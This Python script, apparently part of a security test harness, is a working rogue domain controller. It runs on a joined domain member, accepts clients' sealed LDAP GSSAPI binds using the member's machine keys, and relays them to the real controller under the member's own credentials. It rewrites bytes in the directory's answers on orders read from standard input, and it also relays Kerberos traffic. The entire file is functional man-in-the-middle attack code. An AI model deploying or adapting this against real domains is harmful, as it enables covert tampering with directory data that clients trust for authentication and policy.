# SPDX-License-Identifier: MIT
"""Runs inside mallory, a joined member of a domain: plays that domain's directory.

usage: rogue_dc.py REAL_HOST REAL_ADDRESS

Takes LDAP binds with the member's own keys, passes everything on to the real domain
controller with the member's own credentials, and changes what comes back. KDC traffic is
passed on as it is. One JSON object a line on standard input is an order,

    {"swap": [[HEX, HEX], ...]}    bytes in the answers, each pair of one length

each answered by what happened since the last: {"connections": N, "bound": N,
"requests": N}. It ends with its input.
"""
import json
import os
import socket
import struct
import sys
import threading

from samba import auth, gensec
from samba.credentials import Credentials
from samba.param import LoadParm

BIND, BIND_ANSWER, UNBIND = 0x60, 0x61, 0x42
SASL_IN_PROGRESS, REFUSED = 14, 49


def ber(tag, content):
    size = len(content)
    if size < 0x80:
        return bytes([tag, size]) + content
    return bytes([tag, 0x84]) + struct.pack(">I", size) + content


def element(data, at=0):
    """(tag, content, end) of the element at `at`, or None while it is not whole."""
    if len(data) < at + 2:
        return None
    size, start = data[at + 1], at + 2
    if size & 0x80:
        count = size & 0x7F
        if len(data) < start + count:
            return None
        size, start = int.from_bytes(data[start:start + count], "big"), start + count
    return (data[at], data[start:start + size], start + size) if len(data) >= start + size else None


class Stream:
    """LDAP messages over a socket, sealed once there is a security context."""

    def __init__(self, sock):
        self.sock, self.sealed, self.plain, self.raw = sock, None, b"", b""

    def _more(self, size=None):
        while size is None or len(self.raw) < size:
            data = self.sock.recv(65536)
            if not data:
                raise EOFError
            self.raw += data
            if size is None:
                return

    def message(self):
        while True:
            whole = element(self.plain)
            if whole:
                data, self.plain = self.plain[:whole[2]], self.plain[whole[2]:]
                return data
            if self.sealed is None:
                self._more()
                self.plain, self.raw = self.plain + self.raw, b""
                continue
            self._more(4)
            size = struct.unpack(">I", self.raw[:4])[0]
            self._more(4 + size)
            self.plain += self.sealed.unwrap(self.raw[4:4 + size])
            self.raw = self.raw[4 + size:]

    def send(self, data):
        if self.sealed is None:
            self.sock.sendall(data)
            return
        for at in range(0, len(data), 32768):
            token = self.sealed.wrap(data[at:at + 32768])
            self.sock.sendall(struct.pack(">I", len(token)) + token)


class Rogue:
    def __init__(self, host, address):
        self.lp = LoadParm()
        self.lp.load_default()
        self.host, self.address = host, address
        self.lock, self.swaps = threading.Lock(), []
        self.seen = {"connections": 0, "bound": 0, "requests": 0}

    def order(self, order):
        with self.lock:
            seen, self.seen = self.seen, dict.fromkeys(self.seen, 0)
            self.swaps = [(bytes.fromhex(a), bytes.fromhex(b)) for a, b in order.get("swap", [])]
            return seen

    def count(self, what):
        with self.lock:
            self.seen[what] += 1

    def own(self):
        creds = Credentials()
        creds.guess(self.lp)
        creds.set_machine_account(self.lp)
        return creds

    def accept(self, victim):
        """The victim's bind, with the member's own keys."""
        server = gensec.Security.start_server(
            {"lp_ctx": self.lp, "target_hostname": self.lp.get("netbios name")},
            auth.AuthContext(lp_ctx=self.lp))
        server.set_credentials(self.own())
        server.start_mech_by_sasl_name("GSSAPI")
        done = False
        while not done:
            _, content, _ = element(victim.message())
            _, number, end = element(content)
            tag, bind, _ = element(content, end)
            if tag != BIND:
                raise EOFError
            _, _, at = element(bind)
            _, _, at = element(bind, at)
            _, sasl, _ = element(bind, at)
            _, _, at = element(sasl)
            token = element(sasl, at)
            try:
                done, answer = server.update(token[1] if token else b"")
                code = 0 if done else SASL_IN_PROGRESS
            except Exception:
                answer, code = b"", REFUSED
            victim.send(ber(0x30, ber(2, number) + ber(
                BIND_ANSWER, ber(0x0A, bytes([code])) + ber(4, b"") + ber(4, b"")
                + (ber(0x87, answer) if answer else b""))))
            if code == REFUSED:
                raise EOFError
        victim.sealed = server

    def real(self):
        """A connection to the real domain controller, bound as this member."""
        stream = Stream(socket.create_connection((self.address, 389), timeout=20))
        client = gensec.Security.start_client({"lp_ctx": self.lp, "target_hostname": self.host})
        client.set_credentials(self.own())
        client.set_target_service("ldap")
        client.want_feature(gensec.FEATURE_SEAL)
        client.start_mech_by_sasl_name("GSSAPI")
        done, token = client.update(b"")
        for number in range(1, 9):
            sasl = ber(4, b"GSSAPI") + ber(4, token)
            stream.send(ber(0x30, ber(2, bytes([number])) + ber(
                BIND, ber(2, b"\x03") + ber(4, b"") + ber(0xA3, sasl))))
            _, content, _ = element(stream.message())
            _, _, at = element(content)
            _, answer, _ = element(content, at)
            _, code, at = element(answer)
            _, _, at = element(answer, at)
            _, _, at = element(answer, at)
            last = element(answer, at)
            if last and not done:
                done, token = client.update(last[1])
            if code == b"\0":
                stream.sealed = client
                return stream
        raise EOFError

    def changed(self, message):
        with self.lock:
            swaps = list(self.swaps)
        for old, new in swaps:
            assert len(old) == len(new)
            message = message.replace(old, new)
        return message

    def answers(self, real, victim):
        try:
            while True:
                victim.send(self.changed(real.message()))
        except (EOFError, OSError):
            victim.sock.close()

    def directory(self, sock):
        self.count("connections")
        victim = Stream(sock)
        try:
            self.accept(victim)
            self.count("bound")
            real = self.real()
            threading.Thread(target=self.answers, args=(real, victim), daemon=True).start()
            while True:
                message = victim.message()
                self.count("requests")
                real.send(message)
        except (EOFError, OSError):
            sock.close()

    def kdc(self, sock):
        with socket.create_connection((self.address, 88), timeout=20) as real:
            threading.Thread(target=pump, args=(real, sock), daemon=True).start()
            pump(sock, real)


def pump(source, target):
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def serve(port, handle):
    listener = socket.create_server(("0.0.0.0", port), backlog=64)

    def loop():
        while True:
            threading.Thread(target=handle, args=(listener.accept()[0],), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()


def main():
    rogue = Rogue(*sys.argv[1:3])
    serve(389, rogue.directory)
    serve(88, rogue.kdc)
    print("ready", flush=True)
    for line in sys.stdin:
        print(json.dumps(rogue.order(json.loads(line))), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
